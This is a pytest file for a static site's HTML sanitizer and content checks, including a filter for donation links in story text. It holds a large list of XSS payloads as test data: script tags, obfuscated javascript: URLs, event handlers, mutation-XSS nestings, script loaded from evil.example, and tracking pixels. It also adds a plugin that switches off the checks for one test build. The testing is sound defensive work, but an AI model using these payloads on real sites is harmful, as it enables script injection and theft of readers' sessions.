"""Raw HTML goes through (issue 11, class 3): the sanitizer, the check, escaped header
fields and donation links in text.

Most tests call the pure functions (haihui_content/sanitize.py, html_rules.py); a few
build, where the build is the subject: a hostile story is refused at file:line with
output/ untouched, and, with the check switched off (as if it had missed something),
no page or feed of the build carries a script, an event handler or a script address,
and a hostile Title shows as text everywhere.
"""

import itertools
import os
import re
from typing import ClassVar

import feedparser
import markdown
import pytest
from bs4 import BeautifulSoup
from hypothesis import given
from hypothesis import settings as hsettings
from hypothesis import strategies as st

from conftest import copy_project, edit, tree_digest
from haihui import checks
from haihui.build import ROOT, run_pelican
from haihui.content import html_rules
from haihui.content.content_rules import check_sources, load_sources
from haihui.content.html_rules import html_problems, is_payment_link
from haihui.content.project import rules_from_settings
from haihui.content.sanitize import clean_html

STORY_EN = "content/stories/jibuguoguo.en.md"
HOSTILE_TITLE = '<b onmouseover="alert(1)">x</b>'
BAD_ELEMENTS = {
    "script",
    "iframe",
    "object",
    "embed",
    "frame",
    "frameset",
    "applet",
    "svg",
    "math",
    "style",
    "form",
    "input",
    "button",
    "textarea",
    "select",
    "base",
    "meta",
    "link",
    "noscript",
    "template",
}
URL_ATTRIBUTES = {
    "href",
    "src",
    "srcset",
    "action",
    "formaction",
    "xlink:href",
    "data",
    "poster",
    "background",
    "cite",
    "longdesc",
}


# ------------------------------------------------------------ helpers


@pytest.fixture(scope="module")
def payment(conf):
    return html_rules._payment_settings(conf)


def check_story(conf, real_sources, replace: dict[str, str] | None = None, append: str = ""):
    """Every problem the checks find when the English Jibuguoguo story is edited so."""
    cwd = os.getcwd()
    os.chdir(ROOT)
    try:
        sources = []
        for source in real_sources:
            text = source.text
            if source.path == STORY_EN:
                for old, new in (replace or {}).items():
                    assert old in text
                    text = text.replace(old, new, 1)
                text += append
            sources.append((source.path, source.kind, text))
        loaded = load_sources(sources)
        # The real content's own warnings (its sample consent record) are not this file's subject.
        return [
            p
            for p in check_sources(loaded, rules_from_settings(conf, loaded))
            if p.path == STORY_EN and p.severity == "error"
        ]
    finally:
        os.chdir(cwd)


def story_lines(conf, real_sources, lines: list[str]):
    """Problems of the story with `lines` appended; returns (problems, number of the first line)."""
    first = (ROOT / STORY_EN).read_text("utf-8").count("\n") + 2
    return check_story(conf, real_sources, append="\n" + "\n".join(lines) + "\n"), first


def unsafe_parts(markup: str, *, page: bool = False) -> list[str]:
    """What in `markup`, parsed as HTML (two parsers), could run script or load another site.

    page: a whole page of the site, whose <head> has its own <meta> and <link> and whose
    fund-use page draws its charts in SVG, and the Passing on the Gift page its chain (the
    theme's, not the content's; the chain's escaping is tested in tests/test_gift_chain.py), and
    the print pages their QR codes (segno's path only: tests/test_sharing.py).
    """
    found = []
    for parser in ("html.parser", "lxml"):
        soup = BeautifulSoup(markup, parser)
        if page:
            for chart in soup.select("figure.chart > svg, svg[data-chain], figure.qr > svg[data-qr]"):
                chart.decompose()
            # The share block's address to copy: a read-only field of the theme, in no form.
            for field in soup.select("[data-share] input[data-share-url][readonly]:not([form])"):
                field.decompose()
        for element in soup.find_all(True):
            name = element.name.lower()
            if page and name in ("meta", "link") and element.find_parent("head") is not None:
                continue
            # The theme's JSON-LD (the organisation, home pages only) is data, not script:
            # a browser never runs it, and its text is escaped (tests/test_metadata.py).
            if (
                page
                and name == "script"
                and element.get("type") == "application/ld+json"
                and element.find_parent("head") is not None
            ):
                continue
            if name in BAD_ELEMENTS:
                found.append(f"<{name}>")
            for raw_attribute, value in element.attrs.items():
                attribute = raw_attribute.lower()
                if attribute.startswith("on") or attribute == "style":
                    found.append(f"{name}[{attribute}]")
                if attribute not in URL_ATTRIBUTES:
                    continue
                values = value if isinstance(value, list) else [value]
                for url in values:
                    scheme = html_rules.scheme_of(url)
                    if scheme in ("javascript", "vbscript", "data", "livescript"):
                        found.append(f"{name}[{attribute}={url}]")
                    if (
                        name in ("img", "source")
                        and attribute in ("src", "srcset")
                        and (scheme or url.strip().startswith("//"))
                    ):
                        found.append(f"{name}[{attribute}={url}] (another site)")
    return found


def render(text: str) -> str:
    """Markdown as the site renders it (pelicanconf.py MARKDOWN)."""
    return markdown.Markdown(extensions=["markdown.extensions.extra"], output_format="html5").convert(text)


def same_dom(a: str, b: str) -> bool:
    return BeautifulSoup(a, "html.parser").decode() == BeautifulSoup(b, "html.parser").decode()


# ------------------------------------------------------------ 1. the sanitizer: the examples

EXAMPLES = {
    "script": "<p>Hi</p><script>alert(document.cookie)</script>",
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "javascript link": '<a href="javascript:alert(1)">read more</a>',
    "event handler": '<img src="/images/a.jpg" alt="a" onerror="alert(1)">',
    "tracking pixel": '<img src="https://tracker.example/p.gif?reader=1" width="1" height="1" alt="">',
    "attr_list event handler": render('# Her story {: onclick="alert(1)" }'),
    "markdown javascript link": render("[read more](javascript:alert(1))"),
}


@pytest.mark.parametrize("name", EXAMPLES)
def test_the_examples_of_the_issue_are_removed(name):
    before = EXAMPLES[name]
    assert unsafe_parts(before), "the example is hostile before sanitizing"
    after = clean_html(before)
    assert unsafe_parts(after) == []


def test_the_tracking_pixel_loses_its_address_but_a_picture_of_this_site_keeps_it():
    assert 'src="/images/a.jpg"' in clean_html('<img src="/images/a.jpg" alt="a">')
    assert "tracker" not in clean_html('<img src="//tracker.example/p.gif" alt="">')
    assert "tracker" not in clean_html('<img srcset="/a.jpg 1x, https://tracker.example/p.gif 2x" alt="">')


def test_what_markdown_extra_writes_is_kept():
    text = (
        "Text[^1] about the *HTML* of a {static}/images link.\n\n"
        "*[HTML]: Hyper Text Markup Language\n\n"
        "| Item | Cost |\n|------|------|\n| piglet | 600 |\n\n"
        "Term\n: Definition\n\n"
        "```python\nif a < b and c > d: print('x & y')\n```\n\n"
        "## A heading {: #her-words .lead }\n\n"
        '> A quote with **bold**, `code`, ~~not this~~ and a [link](https://example.org/ "title").\n\n'
        "1. one\n2. two\n\n- [mail](mailto:a@example.org) [phone](tel:+862885373997) "
        "[page]({filename}/pages/about.en.md) [anchor](#her-words)\n\n"
        '<span lang="zh-Hans">找不到这个页面。</span>\n\n'
        "[^1]: The note.\n"
    )
    rendered = render(text)
    assert same_dom(clean_html(rendered), rendered)


def test_the_picture_markup_of_the_pictures_plugin_is_kept():
    picture = (
        '<picture><source type="image/webp" srcset="/images/a-480.webp 480w, /images/a-960.webp 960w" '
        'sizes="(min-width: 44rem) 42rem, calc(100vw - 2rem)"><img src="/images/a-960.jpg" '
        'srcset="/images/a-480.jpg 480w, /images/a-960.jpg 960w" sizes="(min-width: 44rem) 42rem, '
        'calc(100vw - 2rem)" width="1600" height="1200" alt="Two piglets &amp; a pigsty" class="wide" '
        'title="t" loading="lazy" decoding="async"></picture>'
    )
    assert clean_html(picture) == picture


def test_summary_and_text_of_a_content_object_are_cleaned():
    class Item:
        settings: ClassVar[dict[str, list[str]]] = {"FORMATTED_FIELDS": ["summary"]}

        def __init__(self):
            self._content = "<p>ok</p><script>alert(1)</script>"
            self.metadata = {"summary": '<p onclick="x()">s</p>', "title": HOSTILE_TITLE}
            self._summary = self.metadata["summary"]

    from haihui.content.sanitize import sanitize_content

    item = Item()
    sanitize_content(item)
    assert item._content == "<p>ok</p>"
    assert item.metadata["summary"] == item._summary == "<p>s</p>"
    assert item.metadata["title"] == HOSTILE_TITLE  # plain text: the templates escape it


@pytest.mark.parametrize(
    "text", ["a\x01b", "a\x0bb", "a&#1;b", "a&#x0B;b", "<a title='&#2;'>a</a>b", "a\ufffeb"]
)
def test_characters_xml_forbids_are_removed(text):
    """One of them in a story stopped the build with a traceback in the feed writer (old code)."""
    cleaned = clean_html(text)
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", cleaned)
    assert "a" in cleaned and "b" in cleaned


def test_a_control_character_in_a_field_or_the_text_is_refused_at_its_line(conf, real_sources):
    problems = check_story(
        conf,
        real_sources,
        {"Person: Jibuguoguo": "Person: Jibu\x0bguoguo"},
        append="\nA line from Word:\x0bthe next line.\n",
    )
    lines = sorted(p.line for p in problems if "control character" in p.message)
    assert lines[0] == 6 and len(lines) == 2, problems


# ------------------------------------------------------------ the property: many hostile payloads

SCRIPT_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java&#x09;script:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3A;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;vascript:alert(1)",
    "\x01javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:image/svg+xml,<svg onload=alert(1)>",
    "javascript://%0aalert(1)",
]
TEMPLATES = [
    "<a href={q}{url}{q}>x</a>",
    "<img src={q}{url}{q} alt=a>",
    "<iframe src={q}{url}{q}></iframe>",
    "<form action={q}{url}{q}><button formaction={q}{url}{q}>b</button></form>",
    "<object data={q}{url}{q}></object>",
    "<embed src={q}{url}{q}>",
    "<svg><a xlink:href={q}{url}{q}><text>x</text></a></svg>",
    "<math><maction actiontype=statusline xlink:href={q}{url}{q}>x</maction></math>",
    "<a href={q}{url}{q}><img src=/images/a.jpg alt=a></a>",
    "<base href={q}{url}{q}>",
    "<meta http-equiv=refresh content={q}0;url={url}{q}>",
    "<blockquote cite={q}{url}{q}>q</blockquote>",
    "<video poster={q}{url}{q}></video>",
]
HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<img/src=x onerror=alert(1)>",
    "<img src=x/onerror=alert(1) onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img src=x\nonerror\n=\n'alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<div onmouseover="alert(1)">x</div>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<a href=/ onclick=alert(1)>x</a>",
    "<input autofocus onfocus=alert(1)>",
    "<select onchange=alert(1)><option>1</select>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<span onpointerenter=alert(1) style=display:block>x</span>",
]
STRUCTURES = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    "<style>@import 'x';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[><script>alert(1)</script>]]>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object type=text/html data=//evil.example/>",
    "<table><td background=javascript:alert(1)>x</td></table>",
    "<textarea><script>alert(1)</script></textarea>",
    '<img src="https://tracker.example/p.gif">',
    '<img srcset="https://tracker.example/p.gif 1x">',
    "<picture><source srcset=//tracker.example/p.gif><img src=/a.jpg alt=a></picture>",
]
PAYLOADS = (
    [t.format(q=q, url=u) for t in TEMPLATES for u in SCRIPT_URLS for q in ('"', "'", "")]
    + HANDLERS
    + STRUCTURES
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_survives_the_sanitizer(payload):
    assert unsafe_parts(clean_html(payload)) == [], clean_html(payload)
    # Nor when Markdown wraps it, nested in allowed markup, or cleaned twice.
    wrapped = clean_html(render(f"Some text\n\n<div>{payload}</div>\n\n*and* {payload}"))
    assert unsafe_parts(wrapped) == []
    assert unsafe_parts(clean_html(clean_html(f"<p><em>{payload}</em></p>"))) == []


def _case_variants(text: str, flips: list[bool]) -> str:
    return "".join(c.upper() if flip else c for c, flip in zip(text, itertools.cycle(flips)))


# Every payload as written is cleaned in the parametrized test above; this one varies its case,
# its spacing and the text around it, a new sample on each run: 100 examples reach the five
# spacings and flip patterns of every length (300 took 2 s more a run).
@hsettings(max_examples=100, deadline=None)
@given(
    payload=st.sampled_from(PAYLOADS),
    flips=st.lists(st.booleans(), min_size=1, max_size=7),
    space=st.sampled_from(["", " ", "\n", "\t", "  \n  "]),
    prefix=st.text(max_size=20),
    suffix=st.text(max_size=20),
)
def test_any_variant_of_a_payload_is_cleaned(payload, flips, space, prefix, suffix):
    variant = _case_variants(payload, flips).replace(" ", space or " ")
    variant = f"{prefix}{variant}{suffix}"
    assert unsafe_parts(clean_html(variant)) == []
    assert unsafe_parts(clean_html(render(variant))) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_check_refuses_every_payload(payload):
    problems = html_problems("a.md", f"Some text.\n{payload}\n", 10)
    assert problems, payload
    assert all(p.line in (11, 12, 13, 14) and p.translated("zh") for p in problems)


# ------------------------------------------------------------ 2. the check: file, line, what to write


@pytest.mark.parametrize(
    "line, words",
    [
        ("<script>alert(document.cookie)</script>", "script"),
        ('<iframe src="https://www.youtube.com/embed/x"></iframe>', "[what it shows](https://...)"),
        ("[read more](javascript:alert(1))", "javascript:"),
        ('<a href="javascript&colon;alert(1)">read more</a>', "javascript:"),
        (
            '<img src="{static}/images/illustrations/passing-on-the-gift.png" alt="Pigs" onerror="alert(1)">',
            "onerror",
        ),
        ('<p style="color:red">red</p>', "style"),
        ("<form action=/x><input name=a><button>Send</button></form>", "mailto:"),
        ('<svg width="10"><circle r="4"/></svg>', "PNG"),
        ("<object data=x.swf></object>", "embeds"),
        ("<embed src=x.swf>", "embeds"),
        ('## Heading {: onclick="alert(1)" }', "onclick"),
        ("[pic](data:text/html,hi)", "data:"),
        ("<video src=/v.mp4></video>", "link"),
    ],
)
def test_raw_html_in_the_text_is_refused_at_its_line(conf, real_sources, line, words):
    problems, first = story_lines(conf, real_sources, [line])
    here = [p for p in problems if p.line == first]
    assert here, problems
    assert any(words in p.message or words in p.fix for p in here), here
    assert all(p.translated("zh") for p in here)


def test_a_tag_over_several_lines_is_refused_at_the_line_it_starts(conf, real_sources):
    problems, first = story_lines(
        conf, real_sources, ["A line.", "<img", '  src="x.png"', "  onerror=alert(1)>"]
    )
    assert any(p.line == first + 1 and "onerror" in p.message for p in problems), problems


@pytest.mark.parametrize(
    "line",
    [
        '<img src="https://tracker.example/p.gif" alt="A pig">',
        "<img src=https://tracker.example/p.gif alt=pig>",
        "<IMG SRC='//tracker.example/p.gif' ALT='A pig'>",
        '<img alt="A pig" srcset="https://tracker.example/p.gif 1x">',
        '<picture><source srcset="https://tracker.example/p.webp"><img src="x.png" alt="A pig"></picture>',
        "![A pig](https://tracker.example/p.gif)",
    ],
)
def test_tracking_pixels_stay_refused_in_every_form(conf, real_sources, line):
    problems, first = story_lines(conf, real_sources, [line])
    assert any(p.line == first and "another site" in p.message for p in problems), problems


def test_a_pixel_image_rules_reports_is_reported_once(conf, real_sources):
    problems, first = story_lines(
        conf, real_sources, ['<img src="https://tracker.example/p.gif" alt="A pig">']
    )
    assert len([p for p in problems if p.line == first and "another site" in p.message]) == 1


def test_code_and_comments_are_not_html(conf, real_sources):
    problems, _ = story_lines(
        conf,
        real_sources,
        [
            "Write `<script>` in backticks, or:",
            "",
            "```",
            "<script>alert(1)</script>",
            "```",
            "<!-- <iframe src=x></iframe> -->",
            "Escaped: \\<b>, a < b, <https://example.org/>.",
        ],
    )
    assert problems == []


def test_harmless_inline_html_passes(conf, real_sources):
    problems, _ = story_lines(
        conf,
        real_sources,
        [
            '<span lang="zh-Hans">找不到这个页面。</span> <abbr title="Heifer">H</abbr> <sup>1</sup>',
            '<a href="https://example.org/about">about</a> [mail](mailto:jiaruting@haihuichina.org)',
        ],
    )
    assert problems == []


@pytest.mark.parametrize("field", ["Title", "Person", "Location", "Image_alt"])
def test_html_in_a_plain_text_header_field_is_refused(conf, real_sources, field):
    old = {
        "Title": "Title: Jibuguoguo: from recipient to contributor",
        "Person": "Person: Jibuguoguo",
        "Location": "Location: Daliang Mountains, Sichuan",
        "Image_alt": "Image_alt: An illustration, not a photo",
    }[field]
    new = old.replace(": ", f": {HOSTILE_TITLE} ", 1)
    problems = check_story(conf, real_sources, {old: new})
    lines = (ROOT / STORY_EN).read_text("utf-8").split("\n")
    line = next(number for number, text in enumerate(lines, start=1) if text.startswith(old))
    here = [p for p in problems if p.line == line and "plain text" in p.message]
    assert here and here[0].message.startswith(field) and here[0].translated("zh"), problems


@pytest.mark.parametrize(
    "payload, words",
    [
        ("<script>alert(1)</script>", "script"),
        ("[more](javascript:alert(1))", "javascript:"),
        ('<img src="https://tracker.example/p.gif">', "another site"),
        ("[give](https://paypal.me/someone)", "payment"),
    ],
)
def test_html_in_the_summary_is_refused(conf, real_sources, payload, words):
    old = "Summary: A left-behind mother"
    problems = check_story(conf, real_sources, {old: f"Summary: {payload} A left-behind mother"})
    assert any(p.line == 14 and p.message.startswith("Summary:") and words in p.message for p in problems), (
        problems
    )


def test_the_real_content_passes_the_check(conf, real_sources):
    cwd = os.getcwd()
    os.chdir(ROOT)
    try:
        assert list(html_rules.check_html(real_sources, rules_from_settings(conf, real_sources))) == []
    finally:
        os.chdir(cwd)


def test_the_check_is_one_of_the_content_checks():
    assert html_rules.check_html in checks.CHECKS


# ------------------------------------------------------------ 4. donation links in text

REFUSED_LINKS = [
    "https://www.paypal.com/donate/?hosted_button_id=X",
    "https://paypal.me/haihui",
    "https://www.paypal.me/haihui",
    "https://checkout.stripe.com/c/pay/cs_live_x",
    "http://buy.stripe.com/abc",
    "https://buy.stripe.com:8443/abc",
    "https://someone@buy.stripe.com/abc",
    "https://buy.stripe.com.evil.example/abc",
    "alipays://platformapi/startapp?appId=20000067",
    "alipay://x",
    "weixin://wxpay/bizpayurl?pr=abc",
    "wxp://f2f0abc",
    "https://qr.alipay.com/fkx123",
    "https://www.gofundme.com/f/haihui",
    "https://ko-fi.com/haihui",
    "https://www.patreon.com/haihui",
    "https://buymeacoffee.com/haihui",
    "https://givebutter.com/haihui",
    "https://donorbox.org/haihui",
    "https://gongyi.weibo.com/123",
    "https://example.org/donate",
    "https://donate.example.org/",
    "https://example.org/checkout?x=1",
    "https://pay.example.org/x",
    "https://example.org/捐款",
    "https://example.org/%E6%8D%90%E8%B5%A0",
    "//paypal.me/haihui",
    "HTTPS://WWW.PAYPAL.ME/haihui",
]
ACCEPTED_LINKS = [
    "https://buy.stripe.com/abc",
    "https://donate.stripe.com/abc",
    "https://gongyi.qq.com/succor/detail.htm?id=1",
    "https://ssl.gongyi.qq.com/x",
    "https://example.org/display",
    "https://example.org/about",
    "mailto:donate@haihuichina.org",
    "/thank-you/",
    "{filename}/pages/thank-you.en.md",
]


LINK_FORMS = ["[give]({})", '<a href="{}">give</a>', "[give][pay]\n\n[pay]: {}", "<{}>"]


@pytest.mark.parametrize(
    "url, form",
    [
        (url, form)
        for url in REFUSED_LINKS
        for form in LINK_FORMS
        # Markdown autolinks only http(s) addresses
        if form != "<{}>" or url.lower().startswith("http")
    ],
)
def test_a_donation_link_outside_the_checkout_channels_is_refused(payment, url, form):
    problems = html_problems("a.md", form.format(url), 5, payment=payment)
    assert any("payment or donation" in p.message and p.translated("zh") for p in problems), problems


@pytest.mark.parametrize("url", ACCEPTED_LINKS)
def test_checkout_channels_and_ordinary_links_pass(payment, url):
    assert html_problems("a.md", f'[give]({url}) <a href="{url}">x</a>', 5, payment=payment) == []


def test_the_payment_hosts_are_one_setting_and_the_channels_come_from_checkout_channels(conf, payment):
    spec, hosts = payment
    assert spec is conf["PAYMENT_LINKS"]
    assert set(hosts) == {h for c in conf["CHECKOUT_CHANNELS"].values() for h in c["hosts"]}
    assert is_payment_link("https://buy.stripe.com/x", spec)  # a payment link, on an allowed host


def test_a_donation_link_in_the_story_is_refused_at_its_line(conf, real_sources):
    problems, first = story_lines(conf, real_sources, ["Give on [PayPal](https://paypal.me/someone) today."])
    assert [p.line for p in problems if "payment or donation" in p.message] == [first]


# ------------------------------------------------------------ builds

HOSTILE_LINES = [
    "<script>alert('pwned')</script>",
    '<iframe src="https://evil.example/"></iframe>',
    "[read more](javascript:alert(1))",
    '<img src="{static}/images/illustrations/passing-on-the-gift.png" alt="Pigs" onerror="alert(1)">',
    "<img src=https://tracker.example/p.gif alt=pig>",
    "Give on [PayPal](https://paypal.me/someone).",
]


def test_a_hostile_story_is_refused_with_every_line_and_nothing_written(broken):
    path = broken / STORY_EN
    first = path.read_text("utf-8").count("\n") + 2
    with path.open("a", encoding="utf-8") as handle:
        handle.write("\n" + "\n".join(HOSTILE_LINES) + "\n")
    edit(path, "Title: Jibuguoguo: from recipient to contributor", f"Title: {HOSTILE_TITLE}")
    before = tree_digest(broken / "output")
    result = run_pelican("pelicanconf.py", broken / "output", cwd=broken)
    log = result.stdout + result.stderr
    assert result.returncode != 0
    assert "Traceback" not in log
    for number in range(first, first + len(HOSTILE_LINES)):
        assert f"{STORY_EN}:{number}:" in log, (number, log)
    assert f"{STORY_EN}:1: Title is shown as plain text" in log
    assert tree_digest(broken / "output") == before


WITHOUT_THE_CHECKS = '''"""Test only: every content check switched off, as if each had missed something."""
from haihui import checks
from haihui.content import content_rules


def register():
    checks.CHECKS = ()
    content_rules.check_fields = lambda source, rules: iter(())
'''


@pytest.fixture(scope="module")
def unchecked_build(tmp_path_factory):
    """The real site plus a hostile story, built with the content checks switched off."""
    project = copy_project(tmp_path_factory.mktemp("unchecked") / "project")
    (project / "plugins" / "without_html_check").mkdir()
    (project / "plugins" / "without_html_check" / "__init__.py").write_text(WITHOUT_THE_CHECKS, "utf-8")
    with (project / "pelicanconf.py").open("a", encoding="utf-8") as handle:
        handle.write('\nPLUGINS = PLUGINS + ["without_html_check"]\n')
    path = project / STORY_EN
    for old, new in [
        ("Title: Jibuguoguo: from recipient to contributor", f"Title: {HOSTILE_TITLE}"),
        ("Person: Jibuguoguo", "Person: <script>alert(2)</script>Jibuguoguo"),
        ("Location: Daliang Mountains, Sichuan", "Location: <img src=x onerror=alert(3)>Sichuan"),
        (
            "Summary: A left-behind mother",
            "Summary: <script>alert(4)</script>[x](javascript:alert(5)) A left-behind mother",
        ),
    ]:
        edit(path, old, new)
    with path.open("a", encoding="utf-8") as handle:
        handle.write("\n" + "\n\n".join(PAYLOADS[::7] + HANDLERS + STRUCTURES) + "\n")
        handle.write("\nPasted from Word:\x0bnext line, &#1; and \x01.\n")
    result = run_pelican("pelicanconf.py", project / "output", cwd=project)
    assert result.returncode == 0, result.stdout + result.stderr
    return project / "output"


def test_no_page_or_feed_of_the_build_carries_a_payload(unchecked_build):
    pages = sorted(unchecked_build.rglob("*.html"))
    assert len(pages) > 10
    for page in pages:
        assert unsafe_parts(page.read_text("utf-8"), page=True) == [], page
    feeds = sorted(unchecked_build.rglob("*.xml"))
    assert any("feeds" in str(f) for f in feeds)
    english = feedparser.parse((unchecked_build / "feeds/stories.atom.xml").read_bytes(), sanitize_html=False)
    hostile = next(e for e in english.entries if "jibuguoguo" in e.link)
    assert 'href="/"' in hostile.content[0].value  # the payloads reached the feed, cleaned
    for feed in feeds:
        parsed = feedparser.parse(feed.read_bytes(), sanitize_html=False, resolve_relative_uris=False)
        for entry in parsed.entries:
            for part in [*entry.get("content", []), entry.get("summary_detail", {})]:
                if part:
                    assert unsafe_parts(part.get("value", "")) == [], (feed, part)


def test_the_hostile_story_is_published_clean(unchecked_build):
    story = BeautifulSoup((unchecked_build / "stories/jibuguoguo/index.html").read_text("utf-8"), "lxml")
    prose = story.select_one(".prose")
    assert prose is not None
    # The payloads are there, cleaned: `<a href=/ onclick=alert(1)>x</a>` kept its link, lost its handler.
    assert prose.select('a[href="/"]') and not prose.select("[onclick]")
    assert unsafe_parts(prose.decode()) == []
    assert story.select_one(".meta").get_text().endswith("Sichuan")  # the Location, its HTML as text
    assert "<img src=x onerror=alert(3)>" in story.select_one(".meta").get_text()


@pytest.mark.parametrize(
    "url, where",
    [
        ("stories/jibuguoguo/", "h1"),
        ("stories/", ".card__title"),
        ("", ".card__title"),
        ("campaigns/left-behind-mothers/", ".card__title"),
    ],
)
def test_a_hostile_title_shows_as_text(unchecked_build, url, where):
    soup = BeautifulSoup((unchecked_build / url / "index.html").read_text("utf-8"), "lxml")
    titles = [element.get_text() for element in soup.select(where)]
    assert HOSTILE_TITLE in titles or any(t.strip() == HOSTILE_TITLE for t in titles), titles
    assert soup.select("b[onmouseover]") == []
    if url == "stories/jibuguoguo/":
        assert soup.title.get_text().startswith(HOSTILE_TITLE)
        assert soup.find("meta", property="og:title")["content"].startswith(HOSTILE_TITLE)


def test_the_feed_title_is_text(unchecked_build):
    raw = (unchecked_build / "feeds/stories.atom.xml").read_text("utf-8")
    parsed = feedparser.parse(raw, sanitize_html=False)
    entry = next(e for e in parsed.entries if "jibuguoguo" in e.link)
    assert entry.title_detail.type == "text/plain"  # Atom text: a reader never renders it as HTML
    assert "onmouseover" not in entry.title and "x" in entry.title
    assert "<b onmouseover" not in raw
